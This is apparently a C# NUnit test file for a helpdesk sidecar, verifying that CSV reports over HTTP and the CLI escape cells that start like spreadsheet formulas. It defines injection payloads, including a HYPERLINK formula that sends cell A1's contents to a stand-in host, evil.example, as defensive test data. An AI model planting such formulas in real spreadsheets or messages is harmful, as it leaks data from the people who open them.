using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using HelpdeskSidecar.Copilot.Classification;
using HelpdeskSidecar.Tests.Copilot.Classification;
using HelpdeskSidecar.Tests.TestSupport;

namespace HelpdeskSidecar.Tests.Reports;

/// <summary>
/// From outside: text an attacker controls (a customer's message, labels in a history CSV an ops lead imports) reaches
/// every CSV report over HTTP and on the command line, and no cell of those reports starts like a spreadsheet formula.
/// </summary>
[NonParallelizable] // the CLI part redirects Console
public class CsvInjectionTests
{
    private const string Intent = "@SUM(1+1)";
    private const string Tag = "-2+3";
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open the offer\")";

    private SidecarScenario _scenario = null!;

    [OneTimeSetUp]
    public async Task StartAsync()
    {
        using var files = new TempDirectory();
        var history = Path.Combine(files.Path, "history.csv");
        // The shared training rows, with the refund intent and its tag renamed to formulas, written as a history CSV.
        var rows = IntentClassifierTests.History().Select(r => new LabeledText(r.Text,
            r.Intent == "refund_status" ? Intent : r.Intent, r.Tags.Select(t => t == "refund" ? Tag : t).ToList()));
        await File.WriteAllLinesAsync(history, rows.Select(r => $"\"{r.Text}\",\"{r.Intent}\",\"{string.Join(' ', r.Tags)}\"").Prepend("text,intent,tags"));

        _scenario = await SidecarScenario.Create()
            .WithZendesk()
            .WithArticle("refunds.md", "# How refunds work\n\n## When the money arrives\nRefunds reach your card within 5 to 10 business days after the warehouse receives the returned item.")
            .WithHistory(HistoryStore.ReadCsv(history), "csv")
            .StartAsync();
        var (zendesk, host) = (_scenario.Zendesk, _scenario.Host);
        zendesk.AddTicket(9301, "Refund timing", "I returned the jacket, when will the refund reach my card?");
        zendesk.AddTicket(9302, "Partnership", Hyperlink + " Hello, we run a marketplace of handmade ceramics and want to discuss a wholesale partnership.");
        foreach (var (eventId, ticket) in new[] { ("evt-csv-1", 9301L), ("evt-csv-2", 9302L) })
        {
            using var sent = await host.Client.SendAsync(SidecarTestHost.SignedWebhook(SidecarTestHost.TicketEvent(eventId, ticket)));
            Assert.That(sent.StatusCode, Is.EqualTo(HttpStatusCode.Accepted));
        }
        await Eventually.GetAsync(() => host.Client.GetFromJsonAsync<JsonObject>("/api/reports/usage?by=intent"),
            r => r!["total"]!["suggestions"]!.GetValue<int>() == 2, because: "both tickets to get a suggestion");
    }

    [OneTimeTearDown]
    public async Task StopAsync() => await _scenario.DisposeAsync();

    private static List<IReadOnlyDictionary<string, string>> Read(string csv, string firstColumn) =>
        CsvTable.Read(new StringReader(csv), "report.csv", CsvQuotes.Strict, firstColumn).ToList();

    private static IEnumerable<string> FormulaCells(IEnumerable<IReadOnlyDictionary<string, string>> rows) =>
        rows.SelectMany(r => r.Values).Where(c => c.Length > 0 && "=+-@\t\r".Contains(c[0]));

    private async Task<(string Csv, string? Disposition)> GetCsvAsync(string path)
    {
        using var response = await _scenario.Host.Client.GetAsync(path);
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK), path);
        Assert.That(response.Content.Headers.ContentType?.MediaType, Is.EqualTo("text/csv"), path);
        return (await response.Content.ReadAsStringAsync(), response.Content.Headers.ContentDisposition?.ToString());
    }

    [Test]
    public async Task GapsCsv_CustomerMessageStartingWithHyperlink_IsText()
    {
        var (csv, disposition) = await GetCsvAsync("/api/reports/gaps?format=csv");
        var rows = Read(csv, "examples");

        Assert.That(rows.Select(r => r["examples"]), Has.Some.StartsWith("'" + Hyperlink), "the question is kept, as text");
        Assert.That(FormulaCells(rows), Is.Empty);
        Assert.That(disposition, Does.StartWith("attachment").And.Contain("filename=knowledge-gaps.csv"));
    }

    [TestCase("/api/reports/acceptance?format=csv&by=intent", "acceptance-by-intent.csv", "'" + Intent)]
    [TestCase("/api/reports/acceptance?format=csv&by=tag", "acceptance-by-tag.csv", "'" + Tag)]
    [TestCase("/api/reports/usage?format=csv&by=intent", "usage-by-intent.csv", "'" + Intent)]
    public async Task AcceptanceAndUsageCsv_LabelsFromAHistoryCsv_AreText(string path, string file, string key)
    {
        var (csv, disposition) = await GetCsvAsync(path);
        var rows = Read(csv, "key");

        Assert.That(rows.Select(r => r["key"]), Has.Member(key));
        Assert.That(FormulaCells(rows), Is.Empty);
        Assert.That(disposition, Does.StartWith("attachment").And.Contain($"filename={file}"));
    }

    [Test]
    public async Task Cli_CsvReports_SameNeutralisedCells()
    {
        var data = $"--Sidecar:DataDir={_scenario.Host.DataDir}";
        var gaps = await CliRunner.RunAsync("report", "gaps", "--format", "csv", data);
        var acceptance = await CliRunner.RunAsync("report", "acceptance", "--by", "tag", "--format", "csv", data);
        var usage = await CliRunner.RunAsync("report", "usage", "--by", "intent", "--format", "csv", data);

        Assert.That((gaps.Code, acceptance.Code, usage.Code), Is.EqualTo((0, 0, 0)), gaps.Error + acceptance.Error + usage.Error);
        Assert.That(Read(gaps.Out, "examples").Select(r => r["examples"]), Has.Some.StartsWith("'" + Hyperlink));
        Assert.That(Read(acceptance.Out, "key").Select(r => r["key"]), Has.Member("'" + Tag));
        Assert.That(Read(usage.Out, "key").Select(r => r["key"]), Has.Member("'" + Intent));
        Assert.That(FormulaCells(Read(gaps.Out, "examples").Concat(Read(acceptance.Out, "key")).Concat(Read(usage.Out, "key"))), Is.Empty);
    }
}
